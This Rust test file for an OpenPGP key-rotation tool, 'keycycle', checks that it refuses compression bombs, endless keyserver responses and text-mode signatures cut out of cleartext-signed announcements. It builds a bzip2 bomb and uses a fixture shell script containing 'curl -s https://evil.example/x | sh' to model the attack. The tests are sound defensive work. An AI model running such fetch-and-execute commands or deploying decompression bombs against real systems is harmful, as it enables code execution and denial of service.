//! Bounded work for any input (issue 20 §4), and no text-mode artifact
//! signatures. A compressed-data packet of a few hundred bytes expands to
//! gigabytes (bzip2 of zeros, about a million to one); a keyserver answer
//! may never end. Each is fed to every command that reads such data from
//! outside: the command must fail with one `error:` line naming the file
//! or server and one `hint:` line, within 64 MiB of memory (the peak
//! resident size of that one process, from `wait4`).
//!
//! And a signature cut out of a cleartext-signed message (an announcement
//! whose `[announce] template` a committer wrote) is a text-mode (0x01)
//! signature over the text: gpgv says "Good signature" for it as a
//! detached signature of the text as a file; `keycycle verify` refuses it.

use crate::common::*;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command as Std, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use openpgp::parse::Parse;
use openpgp::serialize::stream::{Compressor, LiteralWriter, Message};
use openpgp::types::{CompressionAlgorithm, SignatureType};
use sequoia_openpgp as openpgp;

const GEN: &str = "2026-08-01T12:00:00Z";
/// The most memory a command may take on a bomb (KiB, as ru_maxrss).
const LIMIT_KIB: i64 = 64 << 10;
/// What the bomb expands to.
const ZEROS: usize = 1 << 30;

/// A compressed-data packet (bzip2) holding a literal of [`ZEROS`] zero
/// bytes: about a kilobyte. Made once per test process.
fn bomb() -> &'static [u8] {
    static BOMB: OnceLock<Vec<u8>> = OnceLock::new();
    BOMB.get_or_init(|| {
        let mut out = Vec::new();
        let m = Message::new(&mut out);
        let m = Compressor::new(m)
            .algo(CompressionAlgorithm::BZip2)
            .build()
            .unwrap();
        let mut w = LiteralWriter::new(m).build().unwrap();
        let chunk = vec![0u8; 1 << 20];
        for _ in 0..ZEROS >> 20 {
            w.write_all(&chunk).unwrap();
        }
        w.finalize().unwrap();
        assert!(out.len() < 64 << 10, "a small bomb: {} bytes", out.len());
        out
    })
}

/// The bomb, armored (as a public key block: what a certificate file
/// looks like).
fn armored_bomb() -> Vec<u8> {
    let mut out = Vec::new();
    {
        let mut w = openpgp::armor::Writer::new(&mut out, openpgp::armor::Kind::PublicKey).unwrap();
        w.write_all(bomb()).unwrap();
        w.finalize().unwrap();
    }
    out
}

/// What one measured run of keycycle did.
struct Run {
    code: Option<i32>,
    stderr: String,
    /// Peak resident set size of the process (KiB).
    peak_kib: i64,
    secs: f64,
}

/// `keycycle --batch --vault V --time T ARGS`, as `Env::cmd` runs it,
/// under `/usr/bin/time` (its peak resident size, `%M`) and `timeout`.
/// Measured by a small parent: the peak of a child this test process
/// spawned itself counts the test process's own size at the fork.
fn measured(env: &Env, args: &[&str], limit: Duration) -> Run {
    assert!(
        Path::new("/usr/bin/time").exists(),
        "/usr/bin/time is missing: scripts/test.sh installs package time"
    );
    let peak = tempfile::NamedTempFile::new().unwrap();
    let start = Instant::now();
    let out = Std::new("/usr/bin/time")
        .args(["-f", "%M", "-o"])
        .arg(peak.path())
        .args(["timeout", "-s", "KILL", &limit.as_secs().to_string()])
        .arg(BIN)
        .arg("--batch")
        .arg("--vault")
        .arg(&env.vault)
        .arg("--time")
        .arg(&env.time)
        .args(args)
        .env_remove("KEYCYCLE_VAULT")
        .env("KEYCYCLE_HOME", trust_home())
        .current_dir(env.dir.path())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let secs = start.elapsed().as_secs_f64();
    let report = std::fs::read_to_string(peak.path()).unwrap();
    let peak_kib = report
        .lines()
        .filter_map(|l| l.trim().parse::<i64>().ok())
        .next_back()
        .unwrap_or_else(|| panic!("no peak from /usr/bin/time: {report}"));
    Run {
        code: out.status.code(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        peak_kib,
        secs,
    }
}

/// The run failed cleanly (exit 1, one error line containing `names`
/// and `says`, one hint) within [`LIMIT_KIB`].
fn refused_in_bounds(what: &str, run: &Run, names: &str, says: &str) {
    eprintln!(
        "{what}: peak {:.1} MiB, {:.2} s",
        run.peak_kib as f64 / 1024.0,
        run.secs
    );
    assert!(
        run.peak_kib < LIMIT_KIB,
        "{what}: peak resident size {} MiB ({:.1} s):\n{}",
        run.peak_kib >> 10,
        run.secs,
        run.stderr
    );
    assert_eq!(run.code, Some(1), "{what}: exit:\n{}", run.stderr);
    let lines: Vec<&str> = run.stderr.lines().collect();
    assert!(
        lines.len() == 2 && lines[0].starts_with("error: ") && lines[1].starts_with("hint: "),
        "{what}: one error line and one hint:\n{}",
        run.stderr
    );
    assert!(
        lines[0].contains(names) && lines[0].contains(says),
        "{what}: the error names {names:?} and says {says:?}: {}",
        lines[0]
    );
}

#[test]
fn inspect_refuses_a_compression_bomb_in_bounded_memory() {
    let env = Env::new(GEN);
    for (name, bytes) in [("bomb.pgp", bomb().to_vec()), ("bomb.asc", armored_bomb())] {
        let f = env.path(name);
        std::fs::write(&f, &bytes).unwrap();
        let run = measured(
            &env,
            &["inspect", f.to_str().unwrap()],
            Duration::from_secs(60),
        );
        refused_in_bounds(
            &format!("inspect {name}"),
            &run,
            &f.display().to_string(),
            "expands beyond",
        );
    }
}

#[test]
fn certificate_files_from_outside_and_the_vault_refuse_a_bomb() {
    let k = vault_with_key(GEN);
    let env = &k.env;
    let f = env.path("attestation.asc");
    std::fs::write(&f, armored_bomb()).unwrap();
    // A file handed in by the operator.
    let run = measured(
        env,
        &["attestations", "import", f.to_str().unwrap()],
        Duration::from_secs(60),
    );
    refused_in_bounds(
        "attestations import",
        &run,
        &f.display().to_string(),
        "expands beyond",
    );
    // A committer replaces the key's certificate.
    let cert = env.key_dir().join("cert.asc");
    let good = std::fs::read(&cert).unwrap();
    std::fs::write(&cert, armored_bomb()).unwrap();
    let run = measured(env, &["status"], Duration::from_secs(60));
    eprintln!(
        "status with a bomb for cert.asc: peak {:.1} MiB, {:.2} s\n{}",
        run.peak_kib as f64 / 1024.0,
        run.secs,
        run.stderr
    );
    assert!(run.peak_kib < LIMIT_KIB, "{} MiB", run.peak_kib >> 10);
    assert!(
        run.stderr.contains("cert.asc") && run.stderr.contains("expands beyond"),
        "{}",
        run.stderr
    );
    std::fs::write(&cert, good).unwrap();
}

#[test]
fn an_escrowed_revocation_bomb_is_refused_in_bounded_memory() {
    require("age");
    let k = vault_with_key(GEN);
    let file = k.env.key_dir().join("revocation.age");
    let mut child = Std::new("age")
        .args(["-a", "-r", &k.roster.age_r, "-R"])
        .arg(k.roster.ssh_id.with_extension("pub"))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(bomb()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    std::fs::write(&file, out.stdout).unwrap();
    let id = k.id();
    let run = measured(
        &k.env,
        &["escrow", "verify", &k.fpr, "--identity", &id],
        Duration::from_secs(60),
    );
    eprintln!(
        "escrow verify: peak {:.1} MiB, {:.2} s\n{}",
        run.peak_kib as f64 / 1024.0,
        run.secs,
        run.stderr
    );
    assert!(
        run.peak_kib < LIMIT_KIB,
        "peak {} MiB:\n{}",
        run.peak_kib >> 10,
        run.stderr
    );
    assert_ne!(run.code, Some(0), "{}", run.stderr);
    assert!(run.stderr.contains("expands beyond"), "{}", run.stderr);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
}

/// What the fake keyserver answers to every request.
#[derive(Clone, Copy)]
enum Answer {
    /// `200 OK`, then zeros until the client hangs up.
    Endless,
    /// `200 OK` with the bomb as the body.
    Bomb,
}

/// A keyserver on loopback answering every request with `answer`.
fn server(answer: Answer) -> String {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            std::thread::spawn(move || {
                // The request head (an upload's body is ignored).
                let mut buf = [0u8; 65536];
                let _ = s.set_read_timeout(Some(Duration::from_millis(500)));
                let _ = s.read(&mut buf);
                match answer {
                    Answer::Endless => {
                        let _ = s.write_all(
                            b"HTTP/1.1 200 OK\r\nContent-Type: application/pgp-keys\r\nConnection: close\r\n\r\n",
                        );
                        let zeros = vec![0u8; 1 << 16];
                        while s.write_all(&zeros).is_ok() {}
                    }
                    Answer::Bomb => {
                        let body = bomb();
                        let _ = write!(
                            s,
                            "HTTP/1.1 200 OK\r\nContent-Type: application/pgp-keys\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                            body.len()
                        );
                        let _ = s.write_all(body);
                    }
                }
            });
        }
    });
    format!("hkp://127.0.0.1:{port}")
}

#[test]
fn keyserver_answers_are_bounded_an_endless_one_and_a_bomb() {
    let k = vault_with_key(GEN);
    for (answer, says) in [
        (Answer::Endless, "larger than 8 MiB"),
        (Answer::Bomb, "expands beyond"),
    ] {
        let url = server(answer);
        for args in [vec!["attestations", "fetch"], vec!["publish", "2027.1"]] {
            let mut a = args.clone();
            a.extend(["--keyserver", &url, "--timeout", "10"]);
            let what = format!("{} / {says}", args.join(" "));
            let run = measured(&k.env, &a, Duration::from_secs(60));
            if args[0] == "publish" && matches!(answer, Answer::Bomb) {
                // The upload's answer is not parsed: the bomb is only a
                // body; the fetch-back then meets it.
                refused_in_bounds(&what, &run, &url, "fetch-back");
                assert!(run.stderr.contains(says), "{what}: {}", run.stderr);
            } else {
                refused_in_bounds(&what, &run, &url, says);
            }
        }
    }
}

/// The attack: a committer sets `[announce] template` to a shell script.
/// `announce` refuses a template the signed policy does not name; say the
/// roots were fooled into signing one that does: the cycle key then
/// cleartext-signs the script. The signature cut out of the message is a
/// detached signature of the script: gpgv says "Good signature". keycycle
/// verify refuses it: a text-mode signature is never an artifact's.
/// keycycle's own `sign` makes binary signatures, which verify.
#[test]
fn a_signature_cut_out_of_an_announcement_is_not_an_artifact_signature() {
    let env = Env::new("2026-08-16T09:00:00Z");
    env.ok(&["init"]);
    let (id, r) = env.age_identity("ada");
    let ada = gpg_root(&env, "Ada");
    env.roster_add_root("Ada", "ada@example.org", &ada.public, &r);
    env.cmd_at("2026-08-15T10:00:00Z")
        .args(["generate", "--cycle", "2027.1"])
        .assert()
        .success();
    let script = "#!/bin/sh\n# install.sh\ncurl -s https://evil.example/x | sh\n";
    env.edit_config("# template = \"announce.txt\"", "template = \"install.sh\"");
    std::fs::write(env.vault.join("install.sh"), script).unwrap();
    let ann = env.path("announcement.txt");
    let announce = [
        "announce",
        "--identity",
        id.to_str().unwrap(),
        "-o",
        ann.to_str().unwrap(),
    ];
    let out = env.fails(&announce);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("not the one the signed policy approved"),
        "{err}"
    );
    assert_eq!(env.propose(&env.time), 2);
    ada.sign_policy(&env, &env.time);
    env.ok(&announce);

    // Cut the message apart: the text (dash-escaping undone, without the
    // line break that belongs to the armor) and the signature block.
    let text = std::fs::read_to_string(&ann).unwrap();
    let body_start = text.find("\n\n").unwrap() + 2;
    let sig_start = text.find("-----BEGIN PGP SIGNATURE-----").unwrap();
    let body: Vec<&str> = text[body_start..sig_start - 1]
        .split('\n')
        .map(|l| l.strip_prefix("- ").unwrap_or(l))
        .collect();
    let artifact = env.path("install.sh");
    std::fs::write(&artifact, body.join("\n")).unwrap();
    assert!(
        std::fs::read_to_string(&artifact)
            .unwrap()
            .starts_with("#!/bin/sh\n"),
        "the text is the script"
    );
    let sig = env.path("install.sh.asc");
    std::fs::write(&sig, &text[sig_start..]).unwrap();
    let pile = openpgp::PacketPile::from_bytes(&text[sig_start..]).unwrap();
    let Some(openpgp::Packet::Signature(s)) = pile.children().next() else {
        panic!("a signature");
    };
    assert_eq!(s.typ(), SignatureType::Text);

    // gpgv: a good signature of the script by the cycle key.
    let cert = env.key_dir().join("cert.asc");
    let ring = env.path("ring.gpg");
    let out = gpg_command(env.dir.path(), &env.time)
        .args(["--batch", "--dearmor", "-o"])
        .arg(&ring)
        .arg(&cert)
        .output()
        .unwrap();
    assert!(out.status.success());
    let out = gpgv_at(&env.time)
        .env("GNUPGHOME", env.dir.path())
        .arg("--keyring")
        .arg(&ring)
        .arg(&sig)
        .arg(&artifact)
        .output()
        .unwrap();
    let gpgv = String::from_utf8_lossy(&out.stderr);
    assert!(
        out.status.success() && gpgv.contains("Good signature"),
        "gpgv: {gpgv}\n{text:?}"
    );

    // keycycle verify: with the vault's keys, and with the cert given.
    for extra in [vec![], vec!["--cert", cert.to_str().unwrap()]] {
        let mut c = env.cmd();
        c.args(["--json", "verify"])
            .args(&extra)
            .arg(&artifact)
            .arg("--signature")
            .arg(&sig);
        let out = c.output().unwrap();
        let report: serde_json::Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&out.stderr)));
        assert!(
            !out.status.success(),
            "verify {extra:?} accepted it: {report}"
        );
        let f = &report["files"][0];
        assert_eq!(f["good"], false, "{report}");
        assert!(
            f["reason"].as_str().unwrap_or("").contains("text-mode"),
            "{report}"
        );
    }

    // keycycle's own signature of the same file is binary, and good.
    let out = env
        .cmd()
        .args(["sign", "--with", "2027.1", "--identity"])
        .arg(&id)
        .arg("--overwrite")
        .arg(&artifact)
        .output()
        .unwrap();
    assert_ok(&out);
    let pile = openpgp::PacketPile::from_file(&sig).unwrap();
    let Some(openpgp::Packet::Signature(s)) = pile.children().next() else {
        panic!("a signature");
    };
    assert_eq!(s.typ(), SignatureType::Binary);
    env.ok(&[
        "verify",
        artifact.to_str().unwrap(),
        "--signature",
        sig.to_str().unwrap(),
    ]);
}
